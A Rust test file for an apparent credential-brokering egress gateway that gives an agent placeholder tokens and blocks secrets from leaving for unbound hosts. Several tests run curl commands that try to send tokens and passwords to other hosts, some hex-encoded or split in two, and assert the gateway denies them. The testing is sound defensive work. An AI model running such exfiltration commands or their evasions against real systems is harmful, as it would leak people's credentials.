//! Credentials that the agent never holds, and secrets that go nowhere else.

use base64::{Engine as _, engine::general_purpose::STANDARD};
use sha2::{Digest as _, Sha256};

use super::{POLICY, Road};

const VALUE: &str = "tok_9fKq2LxVb7TzR4mWc1Yd";

const CREDENTIAL: &str = "  allow_private: [localhost]\ncredentials:\n  - name: api\n    from: { env: REAL_TOKEN }\n    hosts: [origin.test]\n    env: API_TOKEN\n";

fn digest(said: &str) -> String {
    hex::encode(Sha256::digest(said))
}

impl Road {
    /// Everything that Rampart has written down or says of itself.
    fn all_that_is_kept(&self) -> String {
        let mut all = self.world.gateway_log();
        for args in [&["config", "show"][..], &["status", "--json"], &["log", "--json"], &["log"]] {
            let ran = self.world.run(args);
            all.push_str(&ran.stdout);
            all.push_str(&ran.stderr);
        }
        let mut folders = vec![self.world.home()];
        while let Some(folder) = folders.pop() {
            for entry in std::fs::read_dir(folder).unwrap() {
                let entry = entry.unwrap();
                match entry.file_type().unwrap() {
                    kind if kind.is_dir() => folders.push(entry.path()),
                    kind if kind.is_file() => {
                        all.push_str(&String::from_utf8_lossy(&std::fs::read(entry.path()).unwrap()));
                    }
                    _ => {}
                }
            }
        }
        all
    }
}

#[test]
fn an_agent_holds_a_placeholder_and_the_origin_gets_the_value() {
    let test = "an_agent_holds_a_placeholder_and_the_origin_gets_the_value";
    let Some(road) = Road::with_variables(test, POLICY, CREDENTIAL, &[("REAL_TOKEN", VALUE)]) else { return };
    let held = road.shell("printf %s \"$API_TOKEN\"").expect(0).stdout;
    assert!(held.starts_with("tok_") && held.len() == VALUE.len() && held != VALUE, "{held}");
    let url = |path: &str| road.url("origin.test", path);
    let curl = "curl -sS -H \"Authorization: Bearer $API_TOKEN\"";
    let ran = road.shell(&format!("{curl} {}", url("/digest"))).expect(0);
    assert_eq!(ran.stdout, digest(&format!("Bearer {VALUE}")), "in a header");
    let ran = road.shell(&format!("curl -sS -u \"git:$API_TOKEN\" {}", url("/digest"))).expect(0);
    assert_eq!(ran.stdout, digest(&format!("Basic {}", STANDARD.encode(format!("git:{VALUE}")))), "in Basic");
    let ran = road.shell(&format!("curl -sS \"{}?k=$API_TOKEN\"", url("/digest"))).expect(0);
    assert_eq!(ran.stdout, digest(&format!("?k={VALUE}")), "in the query");
    let echo = road.shell(&format!("{curl} --compressed {}", url("/headers"))).expect(0).stdout;
    assert!(echo.contains(&format!("Bearer {held}")) && !echo.contains(VALUE), "{echo}");
    let echo = road.shell(&format!("curl -sS -u \"git:$API_TOKEN\" {}", url("/headers"))).expect(0).stdout;
    let half = &STANDARD.encode(format!("git:{VALUE}"))[8..20];
    assert!(!echo.contains(half) && echo.contains("Basic"), "{echo}");
    let elsewhere = road.url("localhost", "/digest");
    let ran = road.shell(&format!("export NO_PROXY= no_proxy=; {curl} -w '%{{http_code}}' {elsewhere}")).expect(0);
    assert!(ran.stdout.contains("secret_leaves") && ran.stdout.ends_with("403"), "{ran:?}");
    assert!(ran.stdout.contains("the placeholder of the credential `api`"), "{ran:?}");
    let denied = road.world.decisions().into_iter().filter(|d| d["outcome"] == "deny").count();
    assert_eq!(denied, 1);
    let kept = road.all_that_is_kept();
    for form in [VALUE.to_owned(), STANDARD.encode(VALUE)[..24].to_owned(), hex::encode(VALUE), half.to_owned()] {
        assert!(!kept.contains(&form), "{form} is written down");
    }
    assert!(kept.contains("k=credential:api"), "records say that there was one");
}

#[test]
fn who_shows_no_credential_of_a_session_gets_nothing_put_in() {
    let test = "who_shows_no_credential_of_a_session_gets_nothing_put_in";
    let Some(road) = Road::with_variables(test, POLICY, CREDENTIAL, &[("REAL_TOKEN", VALUE)]) else { return };
    let status = road.world.status();
    let proxy = status["egress"].as_str().unwrap();
    let url = road.url("origin.test", "/digest");
    let curl = format!("curl -sS -H \"Authorization: Bearer $API_TOKEN\" -x http://{proxy} {url}");
    let ran = road.shell(&format!("printf '%s ' \"$API_TOKEN\"; {curl}")).expect(0);
    let (held, said) = ran.stdout.split_once(' ').unwrap();
    assert_eq!(said, digest(&format!("Bearer {held}")));
}

#[test]
fn a_header_can_be_put_in_by_itself_and_a_program_or_a_file_can_give_the_value() {
    let test = "a_header_can_be_put_in_by_itself_and_a_program_or_a_file_can_give_the_value";
    let file = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(file.path(), format!("{VALUE}-from-file\n")).unwrap();
    let more = format!(
        "credentials:\n  - name: api\n    from: {{ command: [printf, '%s', {VALUE}] }}\n    hosts: [origin.test]\n    paths: ['/digest']\n    headers: {{ authorization: 'token {{}}' }}\n  - name: other\n    from: {{ file: {} }}\n    hosts: [origin.test]\n    paths: ['/digest?*', '/digest/*']\n    headers: {{ authorization: 'Key {{}}' }}\n",
        file.path().display()
    );
    let Some(road) = Road::with(test, POLICY, &more) else { return };
    let get = |path: &str| road.shell(&format!("curl -sS {}", road.url("origin.test", path))).expect(0).stdout;
    assert_eq!(get("/digest"), digest(&format!("token {VALUE}")));
    assert_eq!(get("/digest/x"), digest(&format!("Key {VALUE}-from-file/x")));
    assert!(!get("/headers").contains("Authorization"));
}

#[test]
fn a_credential_that_cannot_be_read_keeps_the_gateway_from_starting_and_is_named() {
    let test = "a_credential_that_cannot_be_read_keeps_the_gateway_from_starting_and_is_named";
    let Some(mut road) = Road::open(test) else { return };
    road.world.run(&["serve", "stop"]).expect(0);
    road.world.gateway().wait().unwrap();
    for (from, words) in [
        ("{ env: NOT_SET_ANYWHERE }", "NOT_SET_ANYWHERE is not set"),
        ("{ file: /nonexistent/key }", "cannot read /nonexistent/key"),
        ("{ command: ['false'] }", "`false` failed"),
        ("{ command: [printf, short] }", "too short"),
    ] {
        let credential = format!("credentials:\n  - name: api\n    from: {from}\n    hosts: [x.test]\n");
        road.world.config(&format!("listen: 127.0.0.1:0\negress:\n  listen: 127.0.0.1:0\n{credential}"));
        let ran = road.world.run(&["serve"]);
        assert!(ran.code != Some(0) && ran.stderr.contains(words) && ran.stderr.contains("`api`"), "{ran:?}");
    }
}

#[test]
fn values_of_a_sessions_surroundings_go_only_where_they_are_bound_to() {
    let test = "values_of_a_sessions_surroundings_go_only_where_they_are_bound_to";
    let key = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(key.path(), "file-secret-4471-abcd\n").unwrap();
    let more = format!(
        "secrets:\n  follow:\n    - {{ env: 'STRIPE_*', hosts: [other.test] }}\n    - {{ env_file: .env, hosts: [origin.test] }}\n    - {{ file: {} }}\n",
        key.path().display()
    );
    let Some(road) = Road::with(test, POLICY, &more) else { return };
    road.world.write("project/.env", "NODE_ENV=production\nDB_PASSWORD='env-file-secret-99'\n");
    let url = road.url("origin.test", "/x");
    let post = |body: &str| {
        let ran = road.shell(&format!("export STRIPE_KEY=unused; curl -sS -w ' %{{http_code}}' -d '{body}' {url}"));
        ran.expect(0).stdout
    };
    let bin = crate::world::bin("rampart");
    // The variable must be there when the session begins.
    let mut sh = road.world.command("sh");
    let packed = STANDARD.encode("{\"key\": \"stripe-secret-1234\"}");
    sh.env("STRIPE_KEY", "stripe-secret-1234");
    sh.arg("-c").arg(format!("eval \"$({} env)\"; curl -sS -d 'x={packed}' {url}", bin.display()));
    let ran = crate::world::Ran::from(sh.output().unwrap()).expect(0);
    assert!(ran.stdout.contains("secret_leaves") && ran.stdout.contains("STRIPE_KEY"), "{ran:?}");
    assert!(!ran.stdout.contains("stripe-secret"), "{ran:?}");
    assert!(post("production").ends_with(" 200"));
    assert!(post("pw=env-file-secret-99").ends_with(" 200"), "it is bound to that host");
    let file = post("a=file-secret&b=-4471-abcd");
    assert!(file.ends_with(" 403") && file.contains("secret_leaves"), "split in two: {file}");
    let exec = road.world.run(&["test", "--json", "curl -d stripe-secret-1234 https://origin.test/"]);
    assert_eq!(exec.code, Some(0), "a rule decides without the gateway's memory: {exec:?}");
}

#[test]
fn a_secret_that_the_agent_has_seen_goes_back_to_where_it_came_from_and_nowhere_else() {
    let test = "a_secret_that_the_agent_has_seen_goes_back_to_where_it_came_from_and_nowhere_else";
    let more = "  allow_private: ['127.0.0.0/8']\n";
    let Some(road) = Road::with(test, POLICY, more) else { return };
    let secret = ["glpat-", "aB3dE5fG7hJ9kL1mN2pQ"].concat();
    road.world.write("origin/web/token.txt", format!("token = \"{secret}\"\n"));
    let (origin, token) = (road.url("origin.test", "/x"), road.url("origin.test", "/token.txt"));
    let proxy = road.world.status()["egress"].as_str().unwrap().to_owned();
    let ran = road.shell(&format!("curl -sS {token}; curl -sS -d '{secret}' {origin}")).expect(0);
    assert!(ran.stdout.ends_with("26 bytes"), "{ran:?}");
    let elsewhere = format!("curl -sS -H 'X-Note: {}' http://elsewhere.test/", hex::encode(&secret));
    let ran = road.shell(&format!("NO_PROXY= no_proxy= {elsewhere} -x http://{proxy}")).expect(0);
    assert!(ran.stdout.contains("secret_leaves") && ran.stdout.contains("gitlab"), "{ran:?}");
    assert!(!ran.stdout.contains(&secret));
}

#[test]
fn it_stands_in_a_body_where_its_binding_says_so() {
    let test = "it_stands_in_a_body_where_its_binding_says_so";
    let credential = format!("{CREDENTIAL}    body: true\n    paths: ['/digest']\n");
    let Some(road) = Road::with_variables(test, POLICY, &credential, &[("REAL_TOKEN", VALUE)]) else { return };
    let url = road.url("origin.test", "/digest");
    let json = "-H 'Content-Type: application/json' -d \"{\\\"token\\\": \\\"$API_TOKEN\\\"}\"";
    for (form, sent) in [
        ("-d \"grant_type=client&secret=$API_TOKEN\"", format!("grant_type=client&secret={VALUE}")),
        (json, format!("{{\"token\": \"{VALUE}\"}}")),
        (&format!("{json} -H 'Transfer-Encoding: chunked'"), format!("{{\"token\": \"{VALUE}\"}}")),
    ] {
        let ran = road.shell(&format!("curl -sS {form} {url}")).expect(0);
        assert_eq!(ran.stdout, digest(&sent), "{form}");
    }
    let elsewhere = road.url("origin.test", "/other");
    let ran = road.shell(&format!("curl -sS -d \"secret=$API_TOKEN\" {elsewhere}")).expect(0);
    assert_eq!(ran.stdout, format!("{} bytes", "secret=".len() + VALUE.len()), "a placeholder of the same length");
    assert!(!road.all_that_is_kept().contains(VALUE));
}

#[test]
fn a_program_is_asked_again_when_its_time_has_come() {
    let folder = tempfile::tempdir().unwrap();
    let token = folder.path().join("token");
    std::fs::write(&token, VALUE).unwrap();
    let more = format!(
        "credentials:\n  - name: api\n    from: {{ command: [cat, {}] }}\n    renew: 1s\n    hosts: [origin.test]\n    headers: {{ authorization: 'Bearer {{}}' }}\n",
        token.display()
    );
    let Some(road) = Road::with("a_program_is_asked_again_when_its_time_has_come", POLICY, &more) else { return };
    let get = || road.shell(&format!("curl -sS {}", road.url("origin.test", "/digest"))).expect(0).stdout;
    assert_eq!(get(), digest(&format!("Bearer {VALUE}")));
    let next = "tok_next0AAAABBBBCCCC1234";
    std::fs::write(&token, next).unwrap();
    let soon = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while get() != digest(&format!("Bearer {next}")) {
        assert!(std::time::Instant::now() < soon, "it was not asked again: {}", road.world.gateway_log());
    }
    // While it fails, what it gave last stays.
    std::fs::remove_file(&token).unwrap();
    while !road.world.gateway_log().contains("the credential `api` stays as it was") {
        assert!(std::time::Instant::now() < soon, "its failure is told: {}", road.world.gateway_log());
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    assert_eq!(get(), digest(&format!("Bearer {next}")));
}

#[test]
fn a_value_is_read_again_when_its_file_changes_and_when_somebody_asks_for_it() {
    let test = "a_value_is_read_again_when_its_file_changes_and_when_somebody_asks_for_it";
    let folder = tempfile::tempdir().unwrap();
    let file = |name: &str| folder.path().join(name);
    std::fs::write(file("key"), VALUE).unwrap();
    std::fs::write(file("printed"), VALUE).unwrap();
    let more = format!(
        "  allow_private: [localhost]\ncredentials:\n  - name: api\n    from: {{ file: {} }}\n    hosts: [origin.test]\n    env: API_TOKEN\n  - name: other\n    from: {{ command: [cat, {}] }}\n    hosts: [origin.test]\n    paths: ['/digest/*']\n    headers: {{ authorization: 'Key {{}}' }}\n",
        file("key").display(),
        file("printed").display()
    );
    let Some(mut road) = Road::with(test, POLICY, &more) else { return };
    let held = road.shell("printf %s \"$API_TOKEN\"").expect(0).stdout;
    let url = road.url("origin.test", "/digest");
    let sent = |road: &Road| {
        let curl = format!("curl -sS -H \"Authorization: Bearer {held}\"");
        road.shell(&format!("{curl} {url}; printf ' '; curl -sS {url}/x")).expect(0).stdout
    };
    let both = |file: &str, printed: &str| {
        format!("{} {}", digest(&format!("Bearer {file}")), digest(&format!("Key {printed}/x")))
    };
    assert_eq!(sent(&road), both(VALUE, VALUE));
    // Another shape, and half written at first.
    let renewed = "ghp_renewed00AAAAbbbbCCCCddddEEEEffff";
    std::fs::write(file("key"), "").unwrap();
    std::fs::write(file("printed"), renewed).unwrap();
    std::fs::write(file("key"), format!("{renewed}\n")).unwrap();
    let soon = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while sent(&road) != both(renewed, VALUE) {
        assert!(std::time::Instant::now() < soon, "the file was not read again: {}", road.world.gateway_log());
    }
    road.world.signal("-HUP");
    while sent(&road) != both(renewed, renewed) {
        assert!(std::time::Instant::now() < soon, "the program was not asked again: {}", road.world.gateway_log());
    }
    // What cannot be read leaves what is there.
    std::fs::remove_file(file("key")).unwrap();
    road.world.signal("-HUP");
    std::thread::sleep(std::time::Duration::from_secs(2));
    assert_eq!(sent(&road), both(renewed, renewed));
    let log = road.world.gateway_log();
    assert!(log.contains("the credential `api` stays as it was"), "{log}");
    assert!(!road.all_that_is_kept().contains(renewed) && !log.contains(VALUE));
    let elsewhere = road.url("localhost", "/");
    let leaks = format!("export NO_PROXY= no_proxy=; curl -sS -d '{renewed}' {elsewhere}");
    let leaks = road.shell(&leaks).expect(0).stdout;
    assert!(leaks.contains("secret_leaves"), "the new value is followed: {leaks}");
}
